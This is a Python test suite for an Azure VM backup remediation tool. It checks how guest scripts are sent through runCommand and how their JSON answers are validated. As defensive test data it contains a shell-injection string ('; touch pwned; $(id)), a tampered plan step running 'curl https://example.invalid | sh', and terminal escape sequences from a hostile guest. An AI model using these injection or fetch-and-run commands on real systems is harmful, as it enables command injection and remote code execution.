"""Scripts in the guest: what is sent, what is believed of the answer, and when nothing is sent."""

import hashlib
import http.server
import json
import re
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from remediator.simulator.process import SimulatorProcess
from tests.command import STEP, Ended, environment, remediate
from tests.controls import controls, texts_of
from tests.evidence import record, records, results, running, scenario, sent, triggered, until
from tests.places import PLAYBOOKS, SCRIPTS

ALL = sorted(path for path in SCRIPTS.iterdir() if path.suffix in (".sh", ".ps1"))

PLAYBOOK = """\
codes: [GuestCode]
title: A script in the guest
sources: [https://example.invalid]
causes: [none]
ladder:
  - rung: script
    title: Run a script
    steps:
      - {action: run-guest-script, script: SCRIPT}
      - {action: back-up-now}
manual: {text: Look.}
"""

HISTORY = {"at": "3h ago", "code": "GuestCode"}
VM: dict[str, Any] = {
    "os": "linux",
    "collection": {"points": {"count": 2, "newest": "1d ago"}},
    "history": [HISTORY],
}
ALLOWED = ("--allow", "guest")


def answer(script: str = "fs-freeze", **rest: Any) -> str:
    """What a script prints when it has done its work."""
    said = {
        "script": script,
        "version": 1,
        "before": {"MountsToSkip": "", "failed": ["/data"]},
        "changed": ["MountsToSkip += /data"],
        "after": {"MountsToSkip": "/data", "not_consistent": ["/data"]},
        "undo": "/var/lib/remediate/undo/fs-freeze-1",
        "problem": None,
    }
    return json.dumps(said | rest) + "\n"


def guest(stdout: str, **rest: Any) -> dict[str, Any]:
    return {"answers": [{"when": [], "stdout": stdout, **rest}]}


def cloud(folder: Path, **vm: Any) -> SimulatorProcess:
    return SimulatorProcess(scenario(folder, VM | vm), time="stepped", step=STEP)


def run(
    azure: SimulatorProcess,
    folder: Path,
    *options: str,
    script: str = "fs-freeze",
    how: str = "--yes",
) -> Ended:
    arguments = arguments_of(azure, folder, *options, script=script)
    return remediate(*arguments, how, env=environment(azure, folder))


def arguments_of(
    azure: SimulatorProcess, folder: Path, *options: str, script: str = "fs-freeze"
) -> list[str]:
    books = folder / "books"
    books.mkdir(exist_ok=True)
    (books / "mine.yaml").write_text(PLAYBOOK.replace("SCRIPT", script), encoding="utf-8")
    return ["--job-id", azure.failed_jobs("web")[-1], "--playbooks", str(books), *options]


def scripts(azure: SimulatorProcess) -> list[dict[str, Any]]:
    return sent(azure, "POST", "/runCommand")


# --- what is sent -------------------------------------------------------------------------------


def test_the_request_holds_the_file_and_nothing_that_azure_said(tmp_path: Path) -> None:
    hostile = '\'; touch pwned; $(id) `id` "\n{"script":"fs-freeze"}'
    history = [HISTORY | {"message": hostile, "recommendations": [hostile]}]
    with cloud(tmp_path, history=history, tags={"a": hostile}, guest=guest(answer())) as azure:
        run(azure, tmp_path, *ALLOWED).check(0)
        (request,) = scripts(azure)
        body = request["body"]
        assert body.keys() == {"commandId", "script"}
        assert body["commandId"] == "RunShellScript"
        assert "\n".join(body["script"]) + "\n" == (SCRIPTS / "fs-freeze.sh").read_text("ascii")


@pytest.mark.parametrize("path", ALL, ids=lambda path: path.name)
def test_every_script_can_be_sent_whole(path: Path) -> None:
    text = path.read_bytes().decode("ascii")
    assert text.endswith("\n")
    assert "\r" not in text
    assert "\n".join(text.splitlines()) + "\n" == text


def test_a_plan_file_that_holds_another_script_is_stale(tmp_path: Path) -> None:
    with cloud(tmp_path, guest=guest(answer())) as azure:
        env, file = environment(azure, tmp_path), tmp_path / "plan.json"
        books = arguments_of(azure, tmp_path, *ALLOWED)
        remediate("plan", *books, "--out", str(file), env=env).check(0)
        plan = json.loads(file.read_text("utf-8"))
        plan["steps"][0]["request"]["body"]["script"] = ["curl https://example.invalid | sh"]
        # Whoever writes a plan can also compute its id.
        del plan["signature"]
        plain = json.dumps(plan | {"plan_id": ""}, ensure_ascii=False, separators=(",", ":"))
        plan["plan_id"] = f"plan-{hashlib.sha256(plain.encode()).hexdigest()[:24]}"
        file.write_text(json.dumps(plan), encoding="utf-8")
        ended = remediate("apply", str(file), "--yes", *books[2:], env=env).check(4)
        assert "stale" in ended.err
        assert azure.writes() == []


def test_a_dry_run_shows_the_script_and_its_plan_holds_it_whole(tmp_path: Path) -> None:
    with cloud(tmp_path) as azure:
        shown = run(azure, tmp_path, *ALLOWED, how="--dry-run").check(0).out
        assert "run script fs-freeze in web  guest" in shown
        assert "lets the backup skip the mount points that could not be frozen" in shown
        assert "playbooks/scripts/fs-freeze.sh" in shown
        held = run(azure, tmp_path, "--format", "json", how="--dry-run").check(0).json()
        allowed = (
            run(azure, tmp_path, "--format", "json", *ALLOWED, how="--dry-run").check(0).json()
        )
        for change in (held["steps"][0]["change"], allowed["steps"][0]):
            assert change["impact"] == "guest"
            told = "\n".join(change["request"]["body"]["script"]) + "\n"
            assert told == (SCRIPTS / "fs-freeze.sh").read_text("ascii")
        assert azure.writes() == []


# --- when nothing is sent -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("vm", "rest", "options", "says"),
    [
        ({}, {}, (), "needs --allow guest"),
        ({"agent": "not-ready"}, {}, ALLOWED, "its agent not-ready"),
        ({"power": "deallocated"}, {}, ALLOWED, "the VM is deallocated"),
        (
            {},
            {"locks": [{"name": "still", "scope": "group:rg-app", "level": "ReadOnly"}]},
            ALLOWED,
            "ReadOnly lock still",
        ),
        ({"os": "windows"}, {}, ALLOWED, "fs-freeze is not for windows"),
    ],
    ids=["not allowed", "agent silent", "off", "locked", "other system"],
)
def test_what_would_not_work_or_is_not_allowed_is_held(
    vm: dict[str, Any], rest: dict[str, Any], options: tuple[str, ...], says: str, tmp_path: Path
) -> None:
    path = scenario(tmp_path, VM | {"group": "rg-app"} | vm, **rest)
    with SimulatorProcess(path, time="stepped", step=STEP) as azure:
        ended = run(azure, tmp_path, *options).check(3)
        assert says in " ".join(ended.out.split())
        assert azure.writes() == []


# --- what is believed of the answer -------------------------------------------------------------


def test_what_the_script_says_is_recorded_and_shown(tmp_path: Path) -> None:
    with cloud(tmp_path, guest=guest(f"Welcome\n{answer()}Bye {{\n")) as azure:
        report = run(azure, tmp_path, *ALLOWED, "--format", "json").check(0).json()
        told = report["outcomes"][0]
        assert told["result"] == "applied"
        assert told["guest"] == json.loads(answer())
        assert "kept in the guest at /var/lib/remediate/undo/fs-freeze-1" in told["text"]
        assert report["verdict"]["ending"] == "recovered"
        assert next(e for e in record(tmp_path) if e["kind"] == "outcome")["outcome"] == told


@pytest.mark.parametrize("script", ["fs-freeze", "diagnose-linux"])
def test_a_problem_ends_the_run_before_the_backup_unless_it_was_a_diagnosis(
    script: str, tmp_path: Path
) -> None:
    said = answer(script, problem="The root cannot be skipped.", before={}, changed=[], undo=None)
    with cloud(tmp_path, guest=guest(said)) as azure:
        diagnosis = script.startswith("diagnose")
        ended = run(azure, tmp_path, *ALLOWED, script=script).check(0 if diagnosis else 3)
        told = " ".join(ended.out.split())
        assert "The root cannot be skipped. (nothing was changed)" in told
        assert "was none" not in told
        assert results(tmp_path) == ["unsettled", "applied" if diagnosis else "not-reached"]
        assert bool(triggered(azure)) is diagnosis
        assert ("Next: Look." in ended.out) is not diagnosis


def no_answers() -> dict[str, str]:
    deep = "[" * 60 + "]" * 60
    return {
        "nothing": "",
        "only words": "done, all well\n",
        "another script's": answer("diagnose-linux"),
        "cut at its beginning": answer(before={"log": "x" * 4200}),
        "not closed": answer().rstrip()[:-1] + "\n",
        "more than it should": answer(extra=1),
        "less than it should": json.dumps({"script": "fs-freeze", "version": 1}) + "\n",
        "deep": answer(before={"a": json.loads(deep)}),
        "too deep to read": answer().replace('"/data"', "[" * 1500 + "]" * 1500),
        "half a letter": answer(problem="\ud800"),
        "no number": answer().replace('"MountsToSkip": ""', '"MountsToSkip": NaN'),
        "no end of a number": answer().replace('"MountsToSkip": ""', '"MountsToSkip": 1e999'),
        "a list": "[" + answer().strip() + "]\n",
    }


@pytest.mark.parametrize("kind", no_answers())
def test_what_is_not_the_answer_is_not_believed(kind: str, tmp_path: Path) -> None:
    with cloud(tmp_path, guest=guest(no_answers()[kind])) as azure:
        report = run(azure, tmp_path, *ALLOWED, "--format", "json").check(3).json()
        assert [o["result"] for o in report["outcomes"]] == ["unsettled", "not-reached"]
        assert "did not say what it did" in report["outcomes"][0]["text"]
        assert triggered(azure) == []


def test_hostile_words_of_the_guest_drive_no_terminal(tmp_path: Path) -> None:
    bad = "\x1b]0;t\x07\x1b[2J\r\u202e[red]x[/]\x9b31m\u2028"
    hostile = answer(
        before={bad: bad, "n": 10**900, "k" * 300: bad},
        changed=[bad],
        after={"list": [{bad: bad}], "none": None},
        undo=bad,
        problem=bad,
    )
    mess = f"{bad}\n{hostile}{bad}\n{answer('other')}"
    assert len(mess) < 4000
    with cloud(tmp_path, guest=guest(mess, stderr=bad)) as azure:
        ended = run(azure, tmp_path, *ALLOWED).check(3)
        assert controls(ended.out + ended.err) == set()
        assert "[red]x[/]" in ended.out
        told = record(tmp_path)
        found = next(e["outcome"]["guest"] for e in told if e["kind"] == "outcome")
        assert found["problem"] == bad
        assert bad in set(texts_of(found))
        ended = run(azure, tmp_path, *ALLOWED, "--format", "json").check(3)
        assert controls(ended.out + ended.err) == set()
        assert ended.json()["outcomes"][0]["guest"]["before"]["n"] == 10**900


def test_before_and_after_are_rows_to_read(tmp_path: Path) -> None:
    said = answer(
        before={
            "MountsToSkip": "",
            "writers": [{"name": "SQL", "state": "failed"}],
            "dhcp": True,
            "gone": "here",
        },
        after={
            "MountsToSkip": "/data",
            "writers": [{"name": "SQL", "state": "stable"}],
            "dhcp": True,
            "av": None,
        },
    )
    with cloud(tmp_path, guest=guest(said)) as azure:
        shown = run(azure, tmp_path, *ALLOWED).check(0).out
        rows = [line.split() for line in shown.splitlines()]
        for row in (
            "MountsToSkip empty → /data",
            "writers.1.name SQL",
            "gone was here",
            "writers.1.state failed → stable",
            "dhcp yes",
            "av unknown",
        ):
            assert row.split() in rows, shown


def test_a_rung_that_only_looks_tells_the_human_too_before_and_after(tmp_path: Path) -> None:
    code = "ExtensionSnapshotBitlockerError"
    ailing = {"ailments": [{"code": code, "times": 9}], "scheduled_backup": "3h ago"}
    said = answer("diagnose-windows", changed=[], after={"findings": ["bitlocker-locked"]})
    vm = {"os": "windows", "history": [], "guest": guest(said)} | ailing
    with cloud(tmp_path, **vm) as azure:
        ours = ["--job-id", azure.failed_jobs("web")[-1]]
        env = environment(azure, tmp_path)
        shown = remediate(*ours, "--dry-run", env=env).check(0).out
        assert '"manage-bde -status"' in " ".join(shown.split())
        plan = tmp_path / "plan.json"
        remediate("plan", *ours, *ALLOWED, "--out", str(plan), env=env).check(0)
        ended = remediate("apply", str(plan), "--yes", *ALLOWED, "--format", "json", env=env).check(
            3
        )
        report = ended.json()
        assert report["verdict"]["ending"] == "failed-again-same-code"
        assert any("manage-bde -status" in line for line in report["next"])
        assert any("never unlocks" in line for line in report["next"])


# --- one command at a time, and its end ---------------------------------------------------------


def test_a_busy_guest_is_waited_for(tmp_path: Path) -> None:
    with cloud(tmp_path, guest=guest(answer())) as azure:
        azure.fault(
            "error", status=409, code="Conflict", method="POST", path="/runCommand$", times=30
        )
        run(azure, tmp_path, *ALLOWED).check(0)
        assert [r["status"] for r in scripts(azure)] == [409] * 30 + [202]


def test_two_runs_never_overlap_in_one_guest(tmp_path: Path) -> None:
    with cloud(tmp_path, guest=guest(answer(), takes="30m")) as azure:
        first, second = tmp_path / "first", tmp_path / "second"
        first.mkdir()
        second.mkdir()
        ours = arguments_of(azure, tmp_path, *ALLOWED, "--yes")
        with running(azure, first, *ours) as one, running(azure, second, *ours) as two:
            one.end()
            two.end()
        posts = sorted(scripts(azure), key=lambda request: request["arrived_order"])
        accepted = [r for r in posts if r["status"] == 202]
        assert 1 <= len(accepted) <= 2
        assert any(r["status"] == 409 for r in posts)
        assert all(s["status"] == "succeeded" for s in azure.state()["vms"][0]["scripts"])


@pytest.mark.parametrize("code", ["OperationNotAllowed", "ScopeLocked"])
def test_another_refusal_is_not_taken_for_a_busy_guest(code: str, tmp_path: Path) -> None:
    with cloud(tmp_path, guest=guest(answer())) as azure:
        azure.fault("error", status=409, code=code, method="POST", path="/runCommand$", times=None)
        run(azure, tmp_path, *ALLOWED).check(3)
        assert len(scripts(azure)) == 1
        assert results(tmp_path) == ["failed", "not-reached"]


@pytest.mark.parametrize("busy", [False, True])
def test_a_command_that_never_ends_is_left_when_the_time_is_up(busy: bool, tmp_path: Path) -> None:
    path = scenario(tmp_path, VM | {"guest": guest(answer(), takes="90d")})
    with SimulatorProcess(path, time="stepped") as azure:
        if busy:
            azure.fault("error", status=409, code="Conflict", path="/runCommand$", times=None)
        began = time.monotonic()
        env = environment(azure, tmp_path) | {"REMEDIATE_POLL_INTERVAL": "1"}
        ours = arguments_of(azure, tmp_path, *ALLOWED)
        remediate(*ours, "--yes", "--timeout", "3s", env=env).check(3)
        assert time.monotonic() - began < 20
        (text,) = [e["outcome"]["text"] for e in record(tmp_path) if e["kind"] == "outcome"][:1]
        assert results(tmp_path) == ["failed" if busy else "uncertain", "not-reached"]
        assert ("not sent" if busy else "may still run") in text
        assert triggered(azure) == []


def test_a_command_that_fails_is_followed_by_no_backup(tmp_path: Path) -> None:
    with cloud(tmp_path, guest=guest(answer())) as azure:
        azure.fault(
            "lro-fails", path="/runCommand$", code="VMAgentStatusCommunicationError", message="No."
        )
        ended = run(azure, tmp_path, *ALLOWED).check(3)
        assert "VMAgentStatusCommunicationError" in ended.out
        assert results(tmp_path) == ["failed", "not-reached"]
        assert triggered(azure) == []


def test_a_command_whose_fate_is_unknown_is_not_sent_again(tmp_path: Path) -> None:
    with cloud(tmp_path, guest=guest(answer())) as azure:
        azure.fault("cut-after", method="POST", path="/runCommand$")
        run(azure, tmp_path, *ALLOWED).check(3)
        assert len(scripts(azure)) == 1
        assert results(tmp_path) == ["uncertain", "not-reached"]
        assert triggered(azure) == []


class Between(http.server.BaseHTTPRequestHandler):
    """Passes everything on to the simulator, and puts another body into a command's last answer."""

    azure: str
    body: bytes
    last: bool
    """Whether it is the result that is replaced, or what tells that the operation has ended."""

    def _pass(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        request = urllib.request.Request(  # noqa: S310 - our own child process
            self.azure + self.path,
            method=self.command,
            data=self.rfile.read(length) if length else None,
            headers=dict(self.headers.items()),
        )
        try:
            with urllib.request.urlopen(request, timeout=30) as answer:  # noqa: S310
                status, headers, body = answer.status, answer.headers, answer.read()
        except urllib.error.HTTPError as error:
            status, headers, body = error.code, error.headers, error.read()
        if b"[stdout]" in body and ("monitor=true" in self.path) is self.last:
            body = self.body
        self.send_response(status)
        for name, value in headers.items():
            if name.lower() not in ("content-length", "transfer-encoding", "date", "server"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = do_DELETE = _pass  # noqa: N815 - named by the base class

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Nothing: the simulator keeps the log."""


@pytest.mark.parametrize(
    ("last", "body"),
    [
        (True, b""),
        (True, b"<html>"),
        (True, b"null"),
        (True, b"[]"),
        (True, b'{"value": 7}'),
        (True, b'{"value": [{"message": {"a": 1}}]}'),
        (False, b""),
        (False, b"<html>"),
        (False, b"[]"),
    ],
)
def test_an_end_that_cannot_be_read_is_no_answer(last: bool, body: bytes, tmp_path: Path) -> None:
    with cloud(tmp_path, guest=guest(answer())) as azure:
        handler = type("Handler", (Between,), {"azure": azure.url, "body": body, "last": last})
        with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as between:
            threading.Thread(target=between.serve_forever, daemon=True).start()
            url = f"http://127.0.0.1:{between.server_port}"
            env = environment(azure, tmp_path) | {"REMEDIATE_ARM_ENDPOINT": url}
            ours = arguments_of(azure, tmp_path, *ALLOWED)
            ended = remediate(*ours, "--yes", env=env)
            between.shutdown()
        ended.check(3)
        assert len(scripts(azure)) == 1
        assert results(tmp_path)[0] in ("unsettled", "uncertain")
        assert results(tmp_path)[1:] == ["not-reached"]
        assert triggered(azure) == []


def test_ctrl_c_while_it_runs_says_that_it_may_have_had_effect(tmp_path: Path) -> None:
    path = scenario(tmp_path, VM | {"guest": guest(answer(), takes="90d")})
    with SimulatorProcess(path, time="stepped") as azure:
        ours = arguments_of(azure, tmp_path, *ALLOWED, "--yes")
        with running(azure, tmp_path, *ours) as command:
            until(lambda: scripts(azure), "the script is sent")
            command.process.send_signal(2)
            assert command.end().code == 130
        assert results(tmp_path) == ["uncertain", "not-reached"]
        assert len(records(tmp_path)) == 1


# --- traps of Microsoft's articles --------------------------------------------------------------

BOOKS = sorted(PLAYBOOKS.glob("*.yaml"))
MANGLED = re.compile(r"msdtc-(un)?install\b|icacls%|tune2fs-l\b")
"""Commands as the zh-TW article prints them: without the blank before their first argument."""
COPY_ONLY = re.compile("USEVSSCOPYBACKUP|UseVssFullBackup", re.IGNORECASE)


def test_no_command_of_the_mangled_article_is_used() -> None:
    for text in ("msdtc-uninstall", "icacls%systemdrive%", "tune2fs-l \\/dev/sdb1"):
        assert MANGLED.search(text)
    for path in (*ALL, *BOOKS):
        assert not MANGLED.search(path.read_text("utf-8")), path.name


def test_whether_vss_copies_only_is_never_written_since_the_articles_contradict() -> None:
    for path in (*ALL, *BOOKS):
        for line in path.read_text("utf-8").splitlines():
            if COPY_ONLY.search(line) and not line.lstrip().startswith("#"):
                assert path.stem == "diagnose-windows", path.name
                assert not re.search(r"\b(set|new|add|remove)\b", line, re.IGNORECASE), line


def test_application_control_is_told_the_path_of_windows() -> None:
    told = [path.read_text("utf-8") for path in BOOKS if "AppLocker" in path.read_text("utf-8")]
    assert told
    for text in told:
        assert "C:\\Packages\\Plugins\\Microsoft.Azure.RecoveryServices.VMSnapshot" in text
        assert "/var/lib" not in text
